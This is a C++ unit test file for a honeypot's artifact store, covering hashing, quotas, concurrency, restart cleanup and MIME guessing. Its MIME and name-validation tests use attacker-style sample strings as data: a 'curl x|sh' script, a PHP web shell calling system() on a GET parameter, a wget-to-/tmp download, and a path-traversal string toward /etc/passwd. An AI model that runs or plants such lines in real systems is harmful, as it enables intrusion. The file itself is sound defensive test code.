// The artifact store: content addressing (one file per content, 0600 in a 0700 dir),
// streaming equals whole, per-file/total/queue quotas with counted drops, abandoned
// captures, concurrent writers, a restart over an existing store, and the MIME guess.
#include "honeypot/world/artifact_store.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <stdlib.h>
#include <sys/stat.h>

#include <fstream>
#include <sstream>
#include <thread>
#include <vector>

#include "core/error.hpp"
#include "events/event.hpp"
#include "honeypot/world/artifact_mime.hpp"

namespace decnet::honeypot {
namespace {

namespace fs = std::filesystem;
using namespace std::string_literals;

// sha256("hello\n")
constexpr const char* kHelloSha =
    "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03";

class ArtifactStoreTest : public ::testing::Test {
  protected:
    void SetUp() override {
        char pattern[] = "/tmp/decnet-artifacts-XXXXXX";
        ASSERT_NE(::mkdtemp(pattern), nullptr);
        root_ = pattern;
        dir_ = root_ / "artifacts";
    }
    void TearDown() override { fs::remove_all(root_); }

    // Names in the store directory, sorted.
    std::vector<std::string> names() const {
        std::vector<std::string> out;
        for (const auto& e : fs::directory_iterator(dir_)) out.push_back(e.path().filename());
        std::sort(out.begin(), out.end());
        return out;
    }
    std::string content(const std::string& name) const {
        std::ifstream in(dir_ / name, std::ios::binary);
        std::ostringstream out;
        out << in.rdbuf();
        return out.str();
    }
    static unsigned mode(const fs::path& path) {
        struct stat st {};
        ::stat(path.c_str(), &st);
        return st.st_mode & 0777;
    }

    fs::path root_, dir_;
};

TEST_F(ArtifactStoreTest, SameBytesTwiceAreOneFile) {
    ArtifactStore store(dir_);
    EXPECT_EQ(mode(dir_), 0700u);
    const auto first = ArtifactCapture::whole(&store, "hello\n");
    const auto second = ArtifactCapture::whole(&store, "hello\n");
    store.flush();
    EXPECT_EQ(first.sha256, kHelloSha);
    EXPECT_EQ(first.size, 6u);
    EXPECT_EQ(first.mime, "text/plain");
    EXPECT_EQ(first.first_bytes, "68656c6c6f0a");
    EXPECT_TRUE(first.stored);
    EXPECT_TRUE(second.stored);
    EXPECT_EQ(first.drop_reason, "");
    EXPECT_THAT(names(), ::testing::ElementsAre(kHelloSha));
    EXPECT_EQ(content(kHelloSha), "hello\n");
    EXPECT_EQ(mode(dir_ / kHelloSha), 0600u);
    const auto stats = store.stats();
    EXPECT_EQ(stats.files, 1u);
    EXPECT_EQ(stats.duplicates, 1u);
    EXPECT_EQ(stats.used_bytes, 6u);
}

TEST_F(ArtifactStoreTest, StreamedChunksEqualTheWholeBuffer) {
    ArtifactStore store(dir_);
    std::string payload = "\x7f\x45LF\x02\x01\x01"s;
    for (int i = 0; i < 100000; ++i) payload += static_cast<char>(i * 7);
    ArtifactCapture capture(&store);
    for (std::size_t at = 0; at < payload.size(); at += 4096)
        capture.write(std::string_view(payload).substr(at, 4096));
    const auto streamed = capture.finish();
    const auto whole = ArtifactCapture::whole(nullptr, payload);
    store.flush();
    EXPECT_EQ(streamed.sha256, whole.sha256);
    EXPECT_EQ(streamed.size, payload.size());
    EXPECT_EQ(streamed.mime, "application/x-executable");
    EXPECT_EQ(streamed.first_bytes, first_bytes_hex(payload));
    EXPECT_EQ(streamed.first_bytes.size(), 64u);
    EXPECT_TRUE(streamed.stored);
    EXPECT_EQ(content(streamed.sha256), payload);
    // Without a store: described, not kept.
    EXPECT_FALSE(whole.stored);
    EXPECT_EQ(whole.drop_reason, "no_store");
}

TEST_F(ArtifactStoreTest, EmptyPayloadIsAnArtifactToo) {
    ArtifactStore store(dir_);
    const auto a = ArtifactCapture::whole(&store, "");
    store.flush();
    EXPECT_EQ(a.sha256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    EXPECT_EQ(a.mime, "application/x-empty");
    EXPECT_TRUE(a.stored);
    EXPECT_THAT(names(), ::testing::ElementsAre(a.sha256));
}

TEST_F(ArtifactStoreTest, OverThePerFileQuotaIsHashedButNotKept) {
    ArtifactStore store(dir_, {.max_file_bytes = 10});
    const auto before = artifacts_dropped("file_quota");
    ArtifactCapture capture(&store);
    capture.write("0123456789");
    capture.write("abc");
    const auto a = capture.finish();
    store.flush();
    EXPECT_FALSE(a.stored);
    EXPECT_EQ(a.drop_reason, "file_quota");
    EXPECT_EQ(a.size, 13u);
    EXPECT_EQ(a.sha256, ArtifactCapture::whole(nullptr, "0123456789abc").sha256);
    EXPECT_EQ(artifacts_dropped("file_quota"), before + 1);
    EXPECT_TRUE(names().empty());  // the part file is gone too
    EXPECT_EQ(store.stats().used_bytes, 0u);
}

TEST_F(ArtifactStoreTest, TotalQuotaDropsNewContentButKnownContentIsStillStored) {
    ArtifactStore store(dir_, {.max_total_bytes = 100});
    const std::string a(60, 'a'), b(60, 'b');
    const auto before = artifacts_dropped("total_quota");
    EXPECT_TRUE(ArtifactCapture::whole(&store, a).stored);
    store.flush();
    const auto second = ArtifactCapture::whole(&store, b);
    EXPECT_FALSE(second.stored);
    EXPECT_EQ(second.drop_reason, "total_quota");
    EXPECT_EQ(artifacts_dropped("total_quota"), before + 1);
    // The same 60 bytes again do not fit either, but they are already kept.
    const auto again = ArtifactCapture::whole(&store, a);
    EXPECT_TRUE(again.stored);
    EXPECT_EQ(again.drop_reason, "");
    store.flush();
    EXPECT_EQ(names().size(), 1u);
    EXPECT_EQ(store.stats().used_bytes, 60u);
}

TEST_F(ArtifactStoreTest, MoreInFlightThanTheQueueBoundIsDropped) {
    ArtifactStore store(dir_, {.max_queued_bytes = 4});
    const auto before = artifacts_dropped("queue_full");
    const auto a = ArtifactCapture::whole(&store, "more than four bytes");
    store.flush();
    EXPECT_FALSE(a.stored);
    EXPECT_EQ(a.drop_reason, "queue_full");
    EXPECT_EQ(artifacts_dropped("queue_full"), before + 1);
    EXPECT_TRUE(names().empty());
}

TEST_F(ArtifactStoreTest, AnAbandonedCaptureLeavesNothing) {
    ArtifactStore store(dir_);
    {
        ArtifactCapture capture(&store);
        capture.write("half an upload");
        ArtifactCapture moved = std::move(capture);  // moving keeps one owner
        moved.write(" and more");
    }
    store.flush();
    EXPECT_TRUE(names().empty());
    EXPECT_EQ(store.stats().used_bytes, 0u);
    EXPECT_EQ(store.stats().files, 0u);
}

TEST_F(ArtifactStoreTest, ConcurrentWritersKeepEachContentOnce) {
    ArtifactStore store(dir_);
    std::vector<std::string> payloads;
    for (int i = 0; i < 5; ++i)
        payloads.push_back(std::string(20000 + i * 333, static_cast<char>('a' + i)));
    std::vector<std::thread> threads;
    for (int t = 0; t < 8; ++t)
        threads.emplace_back([&, t] {
            for (int n = 0; n < 20; ++n) {
                const auto& p = payloads[(t + n) % payloads.size()];
                ArtifactCapture capture(&store);
                for (std::size_t at = 0; at < p.size(); at += 1000)
                    capture.write(std::string_view(p).substr(at, 1000));
                EXPECT_TRUE(capture.finish().stored);
            }
        });
    for (auto& t : threads) t.join();
    store.flush();
    std::uint64_t total = 0;
    for (const auto& p : payloads) {
        const auto sha = ArtifactCapture::whole(nullptr, p).sha256;
        EXPECT_EQ(content(sha), p);
        total += p.size();
    }
    EXPECT_EQ(names().size(), payloads.size());
    const auto stats = store.stats();
    EXPECT_EQ(stats.files, payloads.size());
    EXPECT_EQ(stats.duplicates, 8u * 20u - payloads.size());
    EXPECT_EQ(stats.used_bytes, total);
}

TEST_F(ArtifactStoreTest, ARestartCountsWhatIsKeptAndRemovesPartFiles) {
    {
        ArtifactStore store(dir_, {.max_total_bytes = 10});
        EXPECT_TRUE(ArtifactCapture::whole(&store, "hello\n").stored);
    }  // the destructor writes what was handed over
    std::ofstream(dir_ / ".part-7") << "torn";
    std::ofstream(dir_ / "notes.txt") << "not an artifact";
    ArtifactStore store(dir_, {.max_total_bytes = 10});
    EXPECT_THAT(names(), ::testing::ElementsAre(kHelloSha, "notes.txt"));
    EXPECT_EQ(store.stats().used_bytes, 6u);
    // Known content is stored (already there); new content over the quota is not.
    EXPECT_TRUE(ArtifactCapture::whole(&store, "hello\n").stored);
    EXPECT_EQ(ArtifactCapture::whole(&store, "12345").drop_reason, "total_quota");
    store.flush();
    EXPECT_EQ(store.stats().files, 0u);
    EXPECT_EQ(store.stats().used_bytes, 6u);
}

TEST_F(ArtifactStoreTest, ACaptureMayOutliveItsStore) {
    auto store = std::make_unique<ArtifactStore>(dir_);
    ArtifactCapture capture(store.get());
    capture.write("abc");
    store.reset();
    capture.write("def");
    const auto a = capture.finish();
    EXPECT_FALSE(a.stored);
    EXPECT_EQ(a.drop_reason, "no_store");
    EXPECT_EQ(a.size, 6u);
    EXPECT_TRUE(names().empty());
}

TEST_F(ArtifactStoreTest, EventFieldsInOrder) {
    ArtifactStore store(dir_, {.max_file_bytes = 1});
    Event e;
    add_artifact_fields(e, ArtifactCapture::whole(&store, "#!/bin/sh\nid\n"), "/tmp/x.sh",
                        artifact_filename("/tmp/x.sh"));
    std::vector<std::string> keys;
    for (const auto& [k, v] : e.fields) keys.push_back(k);
    EXPECT_THAT(keys, ::testing::ElementsAre("sha256", "size", "mime", "first_bytes", "origin",
                                             "filename", "stored", "drop_reason"));
    EXPECT_EQ(*e.find("mime"), "text/x-shellscript");
    EXPECT_EQ(*e.find("filename"), "x.sh");
    EXPECT_EQ(*e.find("stored"), "False");
    EXPECT_EQ(*e.find("drop_reason"), "file_quota");
    EXPECT_EQ(artifact_filename("a\\b.exe"), "b.exe");
    EXPECT_EQ(artifact_filename("plain"), "plain");
}

TEST(ArtifactLimits, FromTheEnvironment) {
    ::setenv("DECNET_ARTIFACT_MAX_FILE_BYTES", "5M", 1);
    ::setenv("DECNET_ARTIFACT_MAX_TOTAL_BYTES", "123456", 1);
    auto limits = artifact_limits_from_environment();
    EXPECT_EQ(limits.max_file_bytes, 5u << 20);
    EXPECT_EQ(limits.max_total_bytes, 123456u);
    ::setenv("DECNET_ARTIFACT_MAX_TOTAL_BYTES", "lots", 1);
    EXPECT_THROW(artifact_limits_from_environment(), ConfigError);
    ::setenv("DECNET_ARTIFACT_MAX_TOTAL_BYTES", "99999999999999G", 1);
    EXPECT_THROW(artifact_limits_from_environment(), ConfigError);
    ::unsetenv("DECNET_ARTIFACT_MAX_FILE_BYTES");
    ::unsetenv("DECNET_ARTIFACT_MAX_TOTAL_BYTES");
    limits = artifact_limits_from_environment();
    EXPECT_EQ(limits.max_file_bytes, 10u << 20);
    EXPECT_EQ(limits.max_total_bytes, 1u << 30);
}

TEST(ArtifactName, ExactlySixtyFourLowerCaseHexDigits) {
    EXPECT_TRUE(is_artifact_name(kHelloSha));
    EXPECT_FALSE(is_artifact_name(std::string(kHelloSha).substr(1)));
    EXPECT_FALSE(is_artifact_name(std::string(kHelloSha) + "0"));
    EXPECT_FALSE(
        is_artifact_name("5891B5B522D5DF086D0FF0B110FBD9D21BB4FC7163AF34D08286A2E846F6BE03"));
    EXPECT_FALSE(
        is_artifact_name("../../../../etc/passwd/../../../../../../../../../../../../../x"));
}

TEST(ArtifactMime, MagicNumbers) {
    EXPECT_EQ(guess_mime("\x7f\x45LF\x01"s), "application/x-executable");
    EXPECT_EQ(guess_mime("MZ\x90\x00"s), "application/x-dosexec");
    EXPECT_EQ(guess_mime("\x1f\x8b\x08\x00"s), "application/gzip");
    EXPECT_EQ(guess_mime("PK\x03\x04rest"s), "application/zip");
    EXPECT_EQ(guess_mime("BZh91AY"), "application/x-bzip2");
    EXPECT_EQ(guess_mime("\xfd\x37zXZ\x00\x00"s), "application/x-xz");
    EXPECT_EQ(guess_mime("#!/bin/bash\ncurl x|sh\n"), "text/x-shellscript");
    EXPECT_EQ(guess_mime("#!/usr/bin/env python3\n"), "text/x-python");
    EXPECT_EQ(guess_mime("#!/usr/bin/perl\n"), "text/x-perl");
    EXPECT_EQ(guess_mime("  <?php system($_GET['c']); ?>"), "text/x-php");
    EXPECT_EQ(guess_mime("<!DOCTYPE html><html>"), "text/html");
    EXPECT_EQ(guess_mime("cd /tmp; wget http://x/a\n"), "text/plain");
    EXPECT_EQ(guess_mime("\x00\x01\x02"s), "application/octet-stream");
    EXPECT_EQ(guess_mime(""), "application/x-empty");
    std::string tar(300, '\0');
    tar.replace(0, 5, "a.txt");
    tar.replace(257, 5, "ustar");
    EXPECT_EQ(guess_mime(tar), "application/x-tar");
    EXPECT_EQ(first_bytes_hex("\x00\xff"s), "00ff");
    EXPECT_EQ(first_bytes_hex(std::string(100, 'A')).size(), 2 * kFirstBytes);
}

}  // namespace
}  // namespace decnet::honeypot
